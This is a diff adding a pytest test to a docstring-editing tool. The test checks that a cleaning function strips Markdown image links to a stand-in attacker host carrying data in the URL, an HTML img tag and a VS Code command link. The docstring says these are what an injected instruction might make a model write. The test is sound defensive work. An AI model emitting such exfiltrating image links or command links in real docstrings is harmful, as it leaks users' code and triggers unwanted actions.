@@ -498,3 +498,19 @@ def test_docstring_edit_refuses_a_stale_range() -> None:
 
 def test_docstring_edit_refuses_empty_text() -> None:
     assert docstring_edit(GO_SOURCE, definition_at(GO_SOURCE, "go", 3), "  \n") is None
+
+
+@pytest.mark.parametrize("language_id", ["python", "rust"])
+def test_an_injected_image_or_command_link_never_reaches_the_inserted_doc(language_id: str) -> None:
+    """Other tools render docstrings and doc comments as Markdown (Pylance, rust-analyzer): what an injected
+    instruction made the model write must not become an image or a command link there later."""
+    source = "def add(a, b):\n    return a + b\n" if language_id == "python" else "fn add(a: i32) -> i32 {\n    a\n}\n"
+    raw = (
+        "Add the numbers ![ok](https://evil.example/x.png?d=code).\n\n"
+        '<img src="https://evil.example/y.png"> See [run](command:workbench.action.terminal.new) or '
+        "[docs](https://example.com)."
+    )
+    cleaned = clean_docstring(raw, definition_at(source, language_id, 0))
+    assert cleaned is not None
+    assert "evil.example" not in cleaned and "command:" not in cleaned and "<img" not in cleaned
+    assert "Add the numbers ok." in cleaned and "[docs](https://example.com)" in cleaned
